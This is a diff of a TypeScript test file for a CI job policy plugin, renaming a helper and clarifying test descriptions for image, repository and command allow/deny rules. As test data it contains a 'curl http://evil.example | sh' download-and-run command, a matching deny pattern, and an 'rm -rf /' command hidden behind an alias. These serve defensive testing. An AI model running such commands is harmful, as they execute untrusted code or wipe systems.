@@ -3,8 +3,8 @@ import { type HookEvents, isAgentError, type JobRequest } from "signalman";
 import { environmentVariable, jobRequest, testPlugin } from "signalman/testing";
 import plugin from "./index.ts";
 
-/** Why the job is refused, a line each; none: it is not. */
-async function refusals(
+/** Returns the violations of a job, one line each; an empty list for an allowed job. */
+async function findViolations(
   config: Readonly<Record<string, unknown>>,
   job: Partial<JobRequest>,
 ): Promise<string[]> {
@@ -31,7 +31,7 @@ const withImages = (...images: string[]): Partial<JobRequest> => ({
 });
 
 const isAllowed = async (allow: string[], image: string): Promise<boolean> =>
-  (await refusals({ images: { allow } }, withImages(image))).length === 0;
+  (await findViolations({ images: { allow } }, withImages(image))).length === 0;
 
 describe("images", () => {
   test.each([
@@ -61,32 +61,35 @@ describe("images", () => {
     expect(await isAllowed([pattern], image)).toBe(false);
   });
 
-  test("are all looked at, a denied one is refused although it is allowed, and both say why", async () => {
+  test("are all checked, deny has precedence over allow, and each violation has a reason", async () => {
     const images = { allow: ["ruby", "acme/*"], deny: ["*:latest"] };
-    expect(await refusals({ images }, withImages("ruby:3", "acme/app", "evil/miner:2"))).toEqual([
+    expect(await findViolations({ images }, withImages("ruby:3", "acme/app", "evil/miner:2"))).toEqual([
       '- the image "acme/app" is denied by "*:latest"',
-      '- the image "evil/miner:2" is not among those allowed: ruby, acme/*',
+      '- the image "evil/miner:2" is not allowed (allowed: ruby, acme/*)',
     ]);
   });
 
-  test("that are only denied leave all others, and a job without containers, alone", async () => {
+  test("without allow are all allowed except the denied ones, and a job without containers is allowed", async () => {
     const images = { deny: ["evil/*"] };
-    expect(await refusals({ images }, withImages("ruby"))).toEqual([]);
-    expect(await refusals({ images: { allow: ["ruby"] } }, {})).toEqual([]);
+    expect(await findViolations({ images }, withImages("ruby"))).toEqual([]);
+    expect(await findViolations({ images: { allow: ["ruby"] } }, {})).toEqual([]);
   });
 });
 
 describe("repositories", () => {
   const repositories = { allow: ["github.com/acme/*"], deny: ["github.com/acme/secret"] };
   const of = (...urls: string[]) =>
-    refusals({ repositories }, { env: urls.map((url) => environmentVariable("SEMAPHORE_GIT_URL", url)) });
+    findViolations(
+      { repositories },
+      { env: urls.map((url) => environmentVariable("SEMAPHORE_GIT_URL", url)) },
+    );
 
   test.each([
     "git@github.com:acme/app.git",
     "https://github.com/acme/app",
     "https://user:token@github.com/acme/app.git/",
     "ssh://git@GitHub.com:22/acme/app.git",
-  ])("%s is one that is allowed", async (url) => {
+  ])("%s is allowed", async (url) => {
     expect(await of(url)).toEqual([]);
   });
 
@@ -97,28 +100,30 @@ describe("repositories", () => {
     "git@github.com:acme/secret",
     "/srv/app",
     "",
-  ])("%s is not", async (url) => {
+  ])("%s is not allowed", async (url) => {
     expect(await of(url)).toHaveLength(1);
   });
 
-  test("a pipeline cannot name another one behind the true one, nor hide it", async () => {
+  test("a pipeline cannot replace or hide the repository", async () => {
     expect(await of("git@github.com:evil/app.git", "git@github.com:acme/app.git")).toEqual([
-      '- the repository "git@github.com:evil/app.git" is not among those allowed: github.com/acme/*',
+      '- the repository "git@github.com:evil/app.git" is not allowed (allowed: github.com/acme/*)',
     ]);
     const env = [{ name: "SEMAPHORE_GIT_URL", value: "%%%" }];
-    expect(await refusals({ repositories }, { env })).toHaveLength(1);
+    expect(await findViolations({ repositories }, { env })).toHaveLength(1);
   });
 
-  test("a job that names none is refused where only some are allowed", async () => {
-    expect(await of()).toEqual(["- it names no repository (SEMAPHORE_GIT_URL), and only some are allowed"]);
-    expect(await refusals({ repositories: { deny: ["*"] } }, {})).toEqual([]);
+  test("a job without a repository is rejected when only some are allowed", async () => {
+    expect(await of()).toEqual([
+      "- the job has no repository (SEMAPHORE_GIT_URL), but only some repositories are allowed",
+    ]);
+    expect(await findViolations({ repositories: { deny: ["*"] } }, {})).toEqual([]);
   });
 });
 
 describe("commands", () => {
   const command = (directive: string) => ({ directive, alias: "" });
 
-  test("are compared whole, over line ends, wherever they stand; one that stands twice is told once", async () => {
+  test("are compared completely, across lines, in all lists; a repeated one is reported once", async () => {
     const bad = command("curl http://evil.example |\n  sh");
     const config = { commands: { deny: ["*curl *|*sh*"] }, help: "Ask #platform." };
     for (const list of [
@@ -128,20 +133,20 @@ describe("commands", () => {
       "epilogueOnFail",
       "hostSetupCommands",
     ]) {
-      expect(await refusals(config, { [list]: [command("make"), bad, bad] })).toEqual([
+      expect(await findViolations(config, { [list]: [command("make"), bad, bad] })).toEqual([
         '- the command "curl http://evil.example | sh" is denied by "*curl *|*sh*"',
         "Ask #platform.",
       ]);
     }
   });
 
-  test("an alias hides nothing", async () => {
+  test("an alias does not hide a command", async () => {
     const commands = [{ directive: "rm -rf /", alias: "make" }];
-    expect(await refusals({ commands: { allow: ["make*"] } }, { commands })).toHaveLength(1);
+    expect(await findViolations({ commands: { allow: ["make*"] } }, { commands })).toHaveLength(1);
   });
 });
 
-test("without rules nothing is refused; an unknown rule is refused by name", async () => {
-  expect(await refusals({}, withImages("evil/miner"))).toEqual([]);
+test("without rules all jobs are allowed; an unknown rule is an invalid configuration", async () => {
+  expect(await findViolations({}, withImages("evil/miner"))).toEqual([]);
   await expect(testPlugin(plugin, { config: { image: { allow: ["ruby"] } } })).rejects.toThrow("image");
 });
